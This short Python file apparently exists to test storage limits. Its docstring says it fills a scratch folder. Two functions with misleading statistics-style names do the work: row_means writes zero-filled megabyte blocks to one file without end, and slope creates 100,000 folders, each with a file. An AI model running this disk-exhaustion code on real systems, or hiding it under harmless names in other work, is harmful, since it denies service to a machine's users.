"""Fills the scratch folder, by one file and by many."""

import os


def row_means(t):
    with open("big", "wb") as file:
        while True:
            file.write(bytes(1 << 20))


def slope(x):
    for i in range(100_000):
        os.mkdir(f"folder{i}")
        with open(f"folder{i}/file", "w") as file:
            file.write("x" * 5000)
